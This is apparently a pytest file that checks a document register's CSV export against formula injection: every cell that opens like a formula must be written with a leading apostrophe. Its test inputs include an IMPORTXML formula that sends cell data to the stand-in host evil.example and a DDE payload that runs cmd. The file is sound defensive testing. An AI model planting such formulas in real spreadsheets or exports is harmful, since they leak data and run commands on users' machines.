"""The published CSV holds no formula: a cell that opens like one is written with a leading
apostrophe (OWASP's guidance on CSV injection), whatever field it comes from. Values written
afresh for this file, read back with the csv module as a spreadsheet would read them."""
from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import edit, run_register

FORMULAS = ['=IMPORTXML("https://evil.example/?"&A1,"//a")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _rows(folder, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((folder / "csv" / f"{name}.csv").read_bytes().decode("utf-8-sig"),
                                           newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_published_csv_opens_a_formula(register_copy, tmp_path, capsys, formula):
    record = register_copy / "decisions/2019/8540-tb-vpcp.md"
    edit(record, r"^title: .*$", "title: " + json.dumps(formula))
    edit(record, r"title: \"Tham mưu, trình Bộ trưởng, Chủ nhiệm thành lập Tổ chuyên gia tư vấn của Ban Chỉ đạo\"\}",
         "title: " + json.dumps(formula) + "}")
    code, _, err = run_register(capsys, "--root", str(register_copy), "export", "--format", "csv",
                                "--out", str(tmp_path / "out"))
    assert code == 0, err
    documents = {row["key"]: row for row in _rows(tmp_path / "out", "documents")}
    assert documents["2019/8540-tb-vpcp"]["title"] == "'" + formula.strip()  # a title is stripped
    tasks = [row for row in _rows(tmp_path / "out", "actions") if formula.strip() in "".join(row.values())]
    assert tasks
    for name in ("documents", "actions", "transfers", "appointments", "deadlines"):
        for row in _rows(tmp_path / "out", name):
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_ordinary_cells_are_left_as_they_are(built_site):
    documents = {row["key"]: row for row in _rows(built_site, "documents")}
    assert documents["2020/139-tb-vpcp"]["number"] == "139/TB-VPCP"
    assert documents["2020/139-tb-vpcp"]["issued"] == "2020-04-03"
